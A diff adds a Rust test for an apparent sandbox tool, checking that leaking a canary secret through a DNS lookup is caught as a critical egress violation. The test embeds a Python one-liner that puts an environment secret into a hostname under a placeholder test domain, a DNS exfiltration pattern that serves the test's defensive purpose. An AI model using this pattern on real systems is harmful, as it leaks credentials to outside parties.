@@ -444,3 +444,17 @@ fn digest(text: &str) -> String {
     let python = belljar_tests::Program::new("/usr/bin/python3");
     python.args(["-c", code, text]).run().out().trim().to_owned()
 }
+
+#[test]
+fn decoy_in_a_name_that_is_asked_for_is_critical() {
+    let hall = Hall::new();
+    let code = "import os, socket\ntry: socket.getaddrinfo(os.environ['BAIT'] + '.b.test', 80)\n\
+                except OSError: print('unknown')";
+    let arguments = ["run", "--json", "--egress", "@test", "--secret", "bait=canary:BAIT"];
+    let told = outcome(&hall.ok(&[&arguments[..], &["-c", code]].concat()));
+    assert_eq!(told.stdout, "unknown\n", "{told:#?}");
+    assert_eq!(refusal(&told, "canary").severity, Severity::Critical, "{told:#?}");
+    let control = code.replace("os.environ['BAIT']", "'x' * 40");
+    let told = outcome(&hall.ok(&[&arguments[..], &["-c", &control]].concat()));
+    assert!(told.events.iter().all(|one| one.rule != "egress/canary"), "{told:#?}");
+}
